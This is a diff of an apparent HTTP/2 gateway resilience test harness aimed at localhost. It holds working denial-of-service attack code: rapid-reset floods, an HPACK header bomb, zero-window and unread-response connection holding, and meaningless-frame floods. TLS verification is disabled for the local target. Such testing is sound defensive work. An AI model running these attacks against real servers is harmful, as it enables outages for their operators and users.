@@ -19,6 +19,8 @@ import hpack
 HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, DATA, PRIORITY = 1, 3, 4, 6, 8, 9, 0, 2
 END_STREAM, END_HEADERS = 1, 4
 BODY = b'{"number":"+44 7400 123456"}'
+# Plain bytes of one record.
+RECORD_BYTES = 1 << 14
 # How long a connection that was ended may take to say so.
 PATIENCE_SECONDS = 5
 # Connections that withhold their windows, with 100 lookups each. Their token is good, so that each lookup in
@@ -28,6 +30,14 @@ HOLDING = 15
 
 def frame(kind, flags, stream, payload=b""):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def client_context(protocol):
+    """TLS without verification, and one protocol to choose from."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols([protocol])
+    return context
 
 
 class Tally:
@@ -46,9 +56,10 @@ class Attacker:
 
     def __init__(self, target, until):
         self.target, self.until, self.tally = target, until, Tally()
+        self.context = client_context("h2") if target["tls"] else None
 
-    def running(self):
-        return time.monotonic() < self.until
+    def running(self, beyond=0.0):
+        return time.monotonic() < self.until + beyond
 
     def connect(self, settings=None):
         """Opens a connection with the h2 package: the socket and the package's state."""
@@ -58,15 +69,13 @@ class Attacker:
         raw.settimeout(PATIENCE_SECONDS)
         raw.connect(("127.0.0.1", self.target["port"]))
         raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        if self.target["tls"]:
-            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-            context.set_alpn_protocols(["h2"])
-            raw = context.wrap_socket(raw, server_hostname="localhost")
+        if self.context:
+            raw = self.context.wrap_socket(raw, server_hostname="localhost")
         connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
-        if settings:
-            connection.local_settings.update(settings)
         connection.initiate_connection()
+        if settings:
+            # A second frame in the same write. What is set before the first goes into neither.
+            connection.update_settings(settings)
         raw.sendall(connection.data_to_send())
         self.tally.connections += 1
         self.opened = time.monotonic()
@@ -109,25 +118,28 @@ class Attacker:
                 self.over(sock, False)
 
     def head(self, *extra):
-        return [(":method", "POST"), (":scheme", "http"), (":authority", "api.example.com"),
-                (":path", "/phone/validate/v2"), ("auth-token", self.target["token"]),
-                ("content-type", "application/json"), *extra]
+        return [(":method", "POST"), (":scheme", "https" if self.context else "http"),
+                (":authority", "api.example.com"), (":path", "/phone/validate/v2"),
+                ("auth-token", self.target["token"]), ("content-type", "application/json"), *extra]
 
 
 def rapid_reset(attacker):
     """Opens and resets within one write: `h2` has not even given the requests away."""
     block = hpack.Encoder().encode(attacker.head())
     reset = struct.pack(">I", 8)
-    blob = b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset)
-                    for stream in range(1, 1000, 2))
-    while attacker.running() or attacker.tally.sent < attacker.target["least_resets"]:
+    pair = lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset)
+    # As many as one record of TLS holds, since the gateway may end the connection after the first.
+    count = RECORD_BYTES // len(pair(1))
+    blob = b"".join(map(pair, range(1, 2 * count, 2)))
+    least = attacker.target["least_resets"]
+    while attacker.running() or (attacker.tally.sent < least and attacker.running(PATIENCE_SECONDS)):
         try:
             sock, _ = attacker.connect()
         except OSError:
             continue
-        if not attacker.send(sock, blob, 500):
+        if not attacker.send(sock, blob, count):
             continue
-        attacker.over(sock, drained(sock))
+        attacker.over(sock, drained(sock, time.monotonic() + PATIENCE_SECONDS))
 
 
 def late_reset(attacker):
@@ -150,13 +162,15 @@ def late_reset(attacker):
             attacker.over(sock, False)
 
 
-def drained(sock):
-    """Whether the gateway ends the connection when it is given the time."""
+def drained(sock, by):
+    """Whether the gateway ends the connection by a time."""
     try:
-        sock.settimeout(PATIENCE_SECONDS)
-        while sock.recv(1 << 16):
-            pass
-        return True
+        while True:
+            sock.settimeout(max(0.001, by - time.monotonic()))
+            if not sock.recv(1 << 16):
+                return True
+            if time.monotonic() > by:
+                return False
     except TimeoutError:
         return False
     except OSError:
@@ -184,10 +198,10 @@ def tiny_data(attacker):
 
 def header_bomb(attacker):
     """Kilobytes that say megabytes: one large line in the table, and a head of references to it."""
-    encoder = hpack.Encoder()
-    plant = encoder.encode(attacker.head(("x-bomb", "a" * 3900)))
-    # The newest entry of the table has index 62.
-    block = hpack.Encoder().encode(attacker.head()) + b"\xbe" * 15_000
+    # Lines marked as sensitive stay out of the table, so that its newest entry, which has index 62, is the large one.
+    head = hpack.Encoder().encode([(*line, True) for line in attacker.head()])
+    plant = head + hpack.Encoder().encode([("x-bomb", "a" * 3900)])
+    block = head + b"\xbe" * 15_000
     streams = itertools.count(3, 2)
     while attacker.running():
         try:
@@ -212,29 +226,22 @@ def settings(attacker):
 
 
 def priorities(attacker):
-    """Frames that mean nothing: priorities, and windows of a stream that is over."""
+    """Frames that mean nothing: priorities, and frames of a kind that nobody knows."""
     blob = (frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1)) + frame(99, 0, 0, b"?")) * 500
     attacker.flood(lambda _: b"", blob, 1000)
 
 
-def withheld(attacker, connections, window):
-    """Many requests on many connections, whose answers nobody makes room for."""
+def zero_windows(attacker):
+    """Clients that ask for all that they may and never open a window, so that no answer can be sent."""
     held = []
-    small = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
     block = hpack.Encoder().encode(attacker.head(("content-length", str(len(BODY)))))
     blob = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY) for s in range(1, 200, 2))
-    for _ in range(connections):
-        sock, _ = attacker.connect(small)
-        sock.sendall(blob)
-        attacker.tally.sent += 100
-        held.append((sock, time.monotonic()))
-    return held
-
-
-def zero_windows(attacker):
-    """Clients that never open a window, on every stream that they may have."""
-    for sock, _ in withheld(attacker, HOLDING, 0):
-        attacker.over(sock, drained(sock))
+    for _ in range(HOLDING):
+        sock, _ = attacker.connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
+        if attacker.send(sock, blob, 100):
+            held.append((sock, attacker.opened))
+    for sock, attacker.opened in held:
+        attacker.over(sock, drained(sock, attacker.until + 2 * PATIENCE_SECONDS))
 
 
 def unread(attacker):
@@ -245,15 +252,19 @@ def unread(attacker):
         sock, _ = attacker.connect({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
         sock.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
         sock.settimeout(0.0)
-        held.append([sock, 1, attacker.opened])
-    while held and (attacker.running() or time.monotonic() < attacker.until + PATIENCE_SECONDS):
+        held.append([sock, 1, b"", attacker.opened])
+    while held and attacker.running(PATIENCE_SECONDS):
         for entry in list(held):
-            sock, stream, opened = entry
-            blob = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY)
-                            for s in range(stream, stream + 40, 2))
-            try:
-                attacker.tally.sent += 20 if sock.send(blob) == len(blob) else 0
+            sock, stream, rest, opened = entry
+            if not rest:
+                rest = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, BODY)
+                                for s in range(stream, stream + 40, 2))
                 entry[1] += 40
+            # What is not taken comes first the next time: frames stay whole, and TLS wants the same bytes again.
+            entry[2] = rest
+            try:
+                entry[2] = rest[sock.send(rest):]
+                attacker.tally.sent += 0 if entry[2] else 20
             except (BlockingIOError, ssl.SSLWantWriteError):
                 pass
             except OSError:
